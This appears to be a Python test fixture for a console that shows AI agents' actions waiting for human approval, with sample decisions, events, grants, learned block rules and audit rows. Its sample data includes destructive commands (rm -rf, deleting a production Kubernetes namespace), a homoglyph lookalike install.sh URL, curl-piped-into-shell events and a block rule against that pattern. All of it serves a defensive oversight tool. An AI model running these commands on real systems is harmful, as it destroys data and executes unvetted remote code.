"""Views to draw: deterministic, and built as a node would build them (`safe_text` applied)."""

import hashlib
import json
from typing import Any

from components.text import safe_text
from components.views import (
    AgentRow,
    AlignmentRow,
    AuditDetail,
    AuditRow,
    DecisionView,
    EventRow,
    GrantRow,
    Health,
    LearningView,
    LoveRow,
    OperationRow,
    PatternRow,
    Section,
    Snapshot,
    SuggestionRow,
    WaitingRow,
)
from tests.console import monitor_scenes

NOON = 1_772_366_400_000_000
"""2026-03-01 12:00:00 UTC."""
S = 1_000_000


def decision(
    number: int = 1,
    *,
    now: int = NOON,
    priority: str = "high",
    agent: str = "coder-1",
    tool: str = "shell",
    arguments: dict[str, Any] | None = None,
    summary: str = "delete the build folder of the release branch",
    wait_s: int = 300,
    **changes: Any,
) -> DecisionView:
    arguments = {"command": "rm -rf build/release"} if arguments is None else arguments
    body = "\n".join(
        safe_text(f"{name} = {value}", lines=True) for name, value in arguments.items()
    )
    sections = (
        Section("arguments", body, "action"),
        Section("why asked", "deletes files outside the workspace  [fs.delete]", "reason"),
        Section("concern", "harm prevention: cannot be undone", "concern"),
        Section("request", "Clean up before the release, please.", "request"),
        Section("narrative", "I will remove the old build first.", "narrative"),
    )
    digest = hashlib.sha256(json.dumps([number, arguments]).encode()).hexdigest()
    fields: dict[str, Any] = {
        "id": f"d-{number:04}",
        "version": 0,
        "digest": digest,
        "display_digest": hashlib.sha256(body.encode()).hexdigest(),
        "policy_version": "p-7c21",
        "priority": priority,
        "tier": 1,
        "agent": safe_text(agent),
        "tool": safe_text(tool),
        "headline": safe_text(summary),
        "sections": sections,
        "safety": 0.42,
        "ethics": 0.81,
        "dimensions": (("harm_prevention", 0.55), ("autonomy_respect", 1.0), ("fairness", 1.0)),
        "created_at": now - 40 * S,
        "due": now + wait_s * S,
        "deadline": now + wait_s * S * 2,
        "claimed_by": "",
        "snoozed_until": 0,
        "release_at": 0,
        "code": digest[:4].upper() if priority == "critical" else "",
        "second_needed": False,
        "answered_by": (),
        "arguments_json": json.dumps(arguments, indent=2),
        "alike": f"{tool}(command=rm -rf build/*)",
    }
    return DecisionView(**{**fields, **changes})


def row(view: DecisionView) -> WaitingRow:
    return WaitingRow(
        id=view.id,
        priority=view.priority,
        tier=view.tier,
        agent=view.agent,
        tool=view.tool,
        summary=view.headline,
        created_at=view.created_at,
        due=view.due,
        deadline=view.deadline,
        claimed_by=view.claimed_by,
        snoozed_until=view.snoozed_until,
        answers=len(view.answered_by),
        release_at=view.release_at,
    )


def some_decisions(now: int = NOON) -> list[DecisionView]:
    return [
        decision(
            1, now=now, priority="critical", agent="deployer", tool="kubectl",
            arguments={"command": "kubectl delete namespace production", "context": "eu-west-1"},
            summary="delete the namespace production in eu-west-1", wait_s=45,
        ),
        decision(2, now=now),
        decision(
            3, now=now, agent="mailer", tool="send_email", priority="medium", wait_s=900,
            arguments={"to": "all@example.com", "subject": "We are down", "body": "Sorry."},
            summary="send “We are down” to all@example.com",
        ),
        decision(
            4, now=now, agent="analyst", tool="sql", priority="medium", wait_s=1200,
            arguments={"statement": "UPDATE prices SET net = net * 1.19 WHERE region = 'EU'"},
            summary="update prices, 14,203 rows", claimed_by="grace",
        ),
        decision(
            5, now=now, agent="coder-2", tool="http.get", priority="low", wait_s=3000,
            arguments={"url": "https://gіthub.example/install.sh"},
            summary="fetch https://gіthub.example/install.sh",
        ),
    ]  # fmt: skip


_OPERATIONS = (
    ("gate", "Whole gate", 2140.0, 3480.0, 4920.0, 1.1, 312.4, 0.0, "ok"),
    ("firewall", "Intent firewall", 84.2, 131.0, 190.5, 0.9, 312.4, 0.0, "ok"),
    ("love", "Love engine", 41.0, 77.0, 96.3, 1.0, 312.4, 0.0, "ok"),
    ("hitl", "Decision queue", 5.1, 9.7, 14.2, 1.3, 4.2, 0.0, "ok"),
    ("evolution", "Evolution core", 2.2, 3.1, 6.0, None, 308.0, 0.0, "ok"),
    ("audit", "Audit commit", 480.0, 1650.0, 11_900.0, 2.4, 312.4, 0.0021, "warn"),
    ("mqtt", "MQTT intake", None, None, None, None, 0.0, 0.0, "idle"),
)


def operations(phase: int = 0) -> tuple[OperationRow, ...]:
    return tuple(
        OperationRow(
            name=name, title=title, p50_us=p50, p95_us=p95, p99_us=p99, per_s=per_s,
            errors=errors, level=level,  # type: ignore[arg-type]
            component=name, times_baseline=ratio,
            history=tuple(
                (p99 or 0.0) * (0.4 + 0.6 * ((second * 7 + index * 5 + phase) % 13) / 12)
                for second in range(60)
            ),
        )
        for index, (name, title, p50, p95, p99, ratio, per_s, errors, level) in enumerate(
            _OPERATIONS
        )
    )  # fmt: skip


def events(now: int = NOON, count: int = 40) -> tuple[EventRow, ...]:
    kinds = (
        ("allow", "ok", "coder-1", "read_file src/main.py"),
        ("asked", "warn", "deployer", "kubectl: delete the namespace production"),
        ("deny", "bad", "coder-2", "curl piped into a shell (net.pipe)"),
        ("ok", "ok", "coder-1", "read_file 12.0 ms 40 lines"),
        ("connected", "idle", "analyst", "from uid 1000"),
    )
    return tuple(
        EventRow(seq, now - (count - seq) * 1_700_000, *kinds[seq % len(kinds)])  # type: ignore[arg-type]
        for seq in range(count)
    )


def agents(now: int = NOON) -> tuple[AgentRow, ...]:
    return (
        AgentRow("coder-1", 12_480, 12_301, 120, 59, 14, now - 1 * S, paused=False, broken=False),
        AgentRow("coder-2", 903, 611, 280, 12, 96, now - 70 * S, paused=False, broken=True),
        AgentRow("mailer", 88, 80, 2, 6, 0, now - 3600 * S, paused=True, broken=False),
        AgentRow("deployer", 41, 30, 1, 10, 0, now - 5 * S, paused=False, broken=False),
    )


def grants(now: int = NOON) -> tuple[GrantRow, ...]:
    return (
        GrantRow("g-1", "coder-1", "shell", "shell(command=make|pytest)", "allow", 7,
                 now + 540 * S, "ada"),
        GrantRow("g-2", "", "sql", "sql(statement=drop)", "deny", 100, now + 3000 * S, "grace"),
    )  # fmt: skip


def learning() -> LearningView:
    return LearningView(
        experiences=48_210,
        success_rate=0.963,
        patterns=(
            PatternRow("successful_action", "shell(command=make|pytest)", "1,180 of 1,204 ≥97%"),
            PatternRow(
                "successful_action",
                "send_message(subject=str,text=str,to=example.org,urgent=bool)",
                "23 of 23 ≥86%",
            ),
            PatternRow("failure_mode", "http.get(url=registry.example)", "229 of 260 ≥84%"),
            PatternRow("performance_candidate", "shell(command=python3)", "5.7× in 22"),
        ),
        suggestions=(
            SuggestionRow(
                "s-1", "block_rule",
                "Block shell(command=curl|sh) without asking: people rejected it 9 times (last "
                "from coder-1, coder-2). Reasons given: never run what you have not read.",
                "9 of 9, at least 70%",
                makes="block learned.shell-3f9ac1d2\nmatch.tool = [\"shell\"]\n"
                "match.shell.program = [\"curl\"]\nmatch.shell.into = [\"sh\"]",
                what_if=(
                    "Of the last 5,000 actions since 2026-02-22 08:10 it would have blocked 11.",
                    "People had allowed 1 of them, and denied 9.",
                    "Rules had let 1 of them pass without asking.",
                    "allowed by grace: coder-2 shell, 2026-02-27 17:42 (0195-7)",
                ),
                mark="5e1f00c4a7d29b36",
            ),
            SuggestionRow(
                "s-2", "standing_grant",
                "Grant mailer send_email(body=text,to='team@example.com') for 60 minutes or 20 "
                "uses: people approved it 7 times and never rejected it.",
                "7 of 7, at least 65%",
                why_not="What it would have done is still being worked out.",
            ),
            SuggestionRow(
                "s-3", "failure_advice",
                "http.get(url=registry.example) failed 229 of 260 times: mend the tool or its "
                "permissions, or tell the agents to take another way.",
                "229 of 260, at least 84%",
                why_not="It is advice: there is nothing to accept.",
            ),
        ),
        love=LoveRow(0.17, 0.08, 0.31, 0.15, 100),
        alignment=0.64,
        alignment_low=0.51,
        alignment_high=0.75,
        alignment_n=212,
        alignments=(
            AlignmentRow(of="all", name="", n=212, agreement=0.86, kappa=0.64, low=0.51, high=0.75,
                         week=0.66, before=0.61),
            AlignmentRow(of="tool", name="shell", n=131, agreement=0.81, kappa=0.58, low=0.43,
                         high=0.72, week=0.21, before=0.69, drift="low"),
            AlignmentRow(of="tool", name="send_email", n=12, agreement=0.92),
            AlignmentRow(of="agent", name="coder-1", n=97, agreement=0.9, kappa=0.77, low=0.6,
                         high=0.89, week=0.91, before=0.48, drift="moved"),
        ),
    )  # fmt: skip


def snapshot(now: int = NOON) -> Snapshot:
    health = Health(
        node="assent", state="open", detail="", agents=4, per_s=312.4, waiting=0,
        alerts=("audit commit: p99 is 2.4 times the baseline",), audit_size=48_213,
        audit_root="3f9ac1d27be0", uptime_s=93_784.0, loop_lag_us=410.0,
    )  # fmt: skip
    return Snapshot(
        seq=1, time=now, health=health, operations=operations(), waiting=(), events=events(now),
        agents=agents(now), grants=grants(now), learning=learning(),
        alerts=monitor_scenes.alerts(now), gauges=monitor_scenes.gauges(),
        memory=monitor_scenes.memory(), all_operations=operations(), baseline="spring",
        baseline_offered=False,
    )  # fmt: skip


def audit_row(seq: int) -> AuditRow:
    kind, verdict, text = (
        ("verdict", "allow", "read_file src/main.py"),
        ("verdict", "deny", "curl piped into a shell"),
        ("answer", "allow", "approved by ada"),
        ("outcome", "", "ok in 12 ms"),
    )[seq % 4]
    agent = ("coder-1", "coder-2", "deployer")[seq % 3]
    operator = "ada" if kind == "answer" else ""
    return AuditRow(seq, NOON - (300 - seq) * S, kind, agent, "shell", verdict, operator, text)


def audit_detail(row: AuditRow) -> AuditDetail:
    leaf = {"v": 1, "seq": row.seq, "kind": row.kind, "agent": row.agent, "verdict": row.verdict}
    text = json.dumps(leaf, indent=2)
    proof = "\n".join(hashlib.sha256(bytes([level])).hexdigest() for level in range(4))
    return AuditDetail(row.seq, hashlib.sha256(text.encode()).hexdigest(), text, proof)
